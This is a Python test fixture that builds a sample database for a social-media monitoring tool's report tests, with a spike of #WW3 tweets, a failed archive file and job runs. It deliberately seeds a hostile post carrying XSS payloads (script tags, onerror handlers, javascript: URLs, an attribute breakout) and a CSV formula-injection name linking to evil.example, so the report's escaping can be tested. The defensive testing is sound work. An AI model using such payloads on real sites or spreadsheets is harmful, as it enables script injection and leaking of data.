"""A small database for the report's tests: the sample archive, a burst of reactions nine days
later (a spike), a post whose text, name and URL are hostile markup, a failed archive file and
a week of job runs."""

from __future__ import annotations

from datetime import UTC, date, datetime
from pathlib import Path

from monitor import ingest, open_db, refresh_trends
from monitor.config import Config, Topic
from monitor.sentiment import SCORER_VERSION, score

from .conftest import SAMPLE

SPIKE_DAY = date(2024, 11, 30)
NOW = datetime(2024, 12, 1, 7, 0, tzinfo=UTC)
CONFIG = Config(
    topics=(
        Topic("ww3", ("#ww3", "#wwiii", "world war iii", "world war 3")),
        Topic("atacms", ("#atacms", "atacms")),
    )
)
HOSTILE_TEXT = (
    'Wonderful news, truly great! <script>window.__ran = 1</script><img src="x" '
    'onerror="window.__ran = 2"> [click](javascript:alert(1)) | *bold* </blockquote>'
)
# Starts as a spreadsheet formula would: a CSV cell must not run it.
HOSTILE_NAME = (
    '=HYPERLINK("https://evil.example/?"&A1,"Mallory")<img src=x onerror="window.__ran = 3"></b>'
)
HOSTILE_HANDLE = 'mallory"><script>window.__ran = 4</script>'
HOSTILE_URL = "javascript:alert(document.domain)"
_BURST_TEXTS = (
    "Alarming news tonight. #WW3",
    "This is terrifying, I can't sleep #WW3",
    "Stay calm: nobody wants a wider war #WW3",
    "Markets are falling on war fears #WW3",
)


def report_db(tmp_path: Path) -> Path:
    """The test database (in ``tmp_path``), trends refreshed with :data:`CONFIG`."""
    path = tmp_path / "report.db"
    db = open_db(path)
    ingest([str(SAMPLE)], db)
    burst = write_burst(tmp_path / "burst")
    ingest([str(burst)], db)
    _add_hostile_post(db)
    with db.atomic():
        db.execute("UPDATE archive_files SET ingested_at = '2024-12-01T03:00:00+00:00'")
        broken = {"path": "/archive/broken.warc.gz", "size": 10, "mtime_ns": 1, "sha256": "00",
                  "status": "failed", "documents": 0, "posts": 0,
                  "error": "truncated gzip stream | <b>bad</b>",
                  "ingested_at": "2024-12-01T03:00:00+00:00"}  # fmt: skip
        db["archive_files"].insert(broken)
        runs = [
            ("ingest", "2024-11-30T06:45:00+00:00", "ok", None),
            ("ingest", "2024-11-30T18:45:00+00:00", "failed",
             "1 archive file could not be read (the rest is stored):\n/archive/broken.warc.gz"),
            ("trends", "2024-11-30T18:46:00+00:00", "ok", None),
            ("report", "2024-11-30T07:00:00+00:00", "ok", None),
            ("ingest", "2024-11-20T06:45:00+00:00", "ok", None),  # before the 7 days shown
        ]  # fmt: skip
        db["job_runs"].insert_all(
            dict(job=job, started_at=started, finished_at=started, status=status, error=error)
            for job, started, status, error in runs
        )
    refresh_trends(db, CONFIG)
    db.close()
    return path


def write_burst(folder: Path) -> Path:
    """Two articles of 2024-11-30 embedding a burst of #WW3 tweets (8 and 4), in ``folder``."""
    folder.mkdir()
    for outlet, count in (("example.com", 8), ("example.org", 4)):
        quotes = "".join(
            f'<blockquote class="twitter-tweet"><p lang="en">{_BURST_TEXTS[n % 4]}</p>&mdash; '
            f'User {n} (@u{outlet[8:11]}{n}) <a href="https://twitter.com/u/status/'
            f'{1862828924728246272 + n + (100 if outlet.endswith("org") else 0)}">x</a>'
            "</blockquote>"
            for n in range(count)
        )
        (folder / f"{outlet}.html").write_text(
            f'<html><head><link rel="canonical" href="https://{outlet}/burst">'
            '<meta property="article:published_time" content="2024-11-30T20:00:00+00:00">'
            f"</head><body>{quotes}</body></html>",
            encoding="utf-8",
        )
    return folder


def _add_hostile_post(db) -> None:
    """A post as a hostile page could leave it: markup in its text and author, a script URL;
    embedded by both articles of the burst."""
    scores = score(HOSTILE_TEXT)
    post_id = "twitter:1862828924728246999"
    with db.atomic():
        post = {"id": post_id, "platform": "twitter", "post_id": "1862828924728246999",
                "url": HOSTILE_URL, "author_name": HOSTILE_NAME, "author_handle": HOSTILE_HANDLE,
                "posted_at": "2024-11-30T12:00:00+00:00", "lang": "en", "text": HOSTILE_TEXT,
                "compound": scores.compound, "pos": scores.pos, "neu": scores.neu,
                "neg": scores.neg, "scorer": SCORER_VERSION, "has_media": 0, "is_reply": 0,
                "first_seen_at": "2024-12-01T03:00:00+00:00"}  # fmt: skip
        db["posts"].insert(post)
        for (article_id,) in db.execute(
            "SELECT id FROM articles WHERE url LIKE '%/burst' ORDER BY id"
        ).fetchall():
            db["article_posts"].insert({"article_id": article_id, "post_id": post_id})
        db["trend_dates"].upsert({"date": SPIKE_DAY.isoformat()}, pk="date")
